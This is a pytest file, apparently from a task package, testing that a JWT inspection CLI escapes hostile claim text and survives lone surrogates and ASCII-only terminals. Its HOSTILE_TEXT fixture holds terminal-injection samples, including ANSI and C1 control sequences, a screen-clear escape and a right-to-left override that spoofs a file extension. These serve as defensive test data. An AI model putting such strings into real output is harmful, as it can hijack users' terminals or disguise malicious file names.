HOSTILE_TEXT = {
    "c1-csi": "\x9b31mred",
    "esc-clear-screen": "\x1b[2J",
    "bidi-override": "\u202eexe.txt",
    "bidi-isolate": "\u2066x\u2069",
    "next-line": "a\x85b",
    "line-separator": "a\u2028b",
    "bell": "\x07",
    "soft-hyphen": "a\xadb",
}


def terminal_safe(text: str) -> bool:
    return all(c.isprintable() or c == "\n" for c in text)


@pytest.mark.parametrize("name", HOSTILE_TEXT.values(), ids=list(HOSTILE_TEXT))
def test_item3_hostile_claims_are_escaped_in_every_output(
    cli: RunCLI, server: JWKSServer, issuer: Issuer, name: str
) -> None:
    token = issuer.token(name=name, email=f"{name}@example.com", role=f"user,{name}")
    for command in (["inspect", token], ["verify", token, "--base-url", server.url]):
        code, out, err = cli(*command)
        assert code == 0
        assert terminal_safe(out + err), out
        code, out, err = cli(*command, "--json")
        assert code == 0
        assert (out + err).isascii()
        document = json.loads(out)
        assert document["claims"]["name"] == name


def test_item3_lone_surrogates_never_crash_the_command_line(
    cli: RunCLI, server: JWKSServer, issuer: Issuer
) -> None:
    key = issuer.current_key
    token = raw_token(key, header_json(key), with_member(issuer, '"nick": "\\ud800"'))
    for command in (["inspect", token], ["verify", token, "--base-url", server.url]):
        for json_flag in ((), ("--json",)):
            code, out, err = cli(*command, *json_flag)
            assert code == 1
            assert "not Unicode text" in out
            assert terminal_safe(out + err)
    jwk = key.public_jwk
    server.body = json.dumps({"keys": [jwk, dict(jwk, kid="\ud800\x9b")]}).encode()
    code, out, err = cli("jwks", "--base-url", server.url)
    assert code == 0
    assert "\\ud800\\x9b" in out
    assert terminal_safe(out + err)
    code, out, err = cli("jwks", "--base-url", server.url, "--json")
    assert code == 0
    assert out.isascii()
    assert "\ud800\x9b" in [k["kid"] for k in json.loads(out)["keys"]]


def test_item3_a_terminal_that_cannot_encode_gets_escapes(issuer: Issuer) -> None:
    token = issuer.token(name="Jos\xe9 \u2603")
    result = subprocess.run(
        [sys.executable, "-m", "starlette_betterauth", "inspect", token],
        cwd=ROOT,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
        capture_output=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    assert b'"Jos\\xe9 \\u2603"' in result.stdout
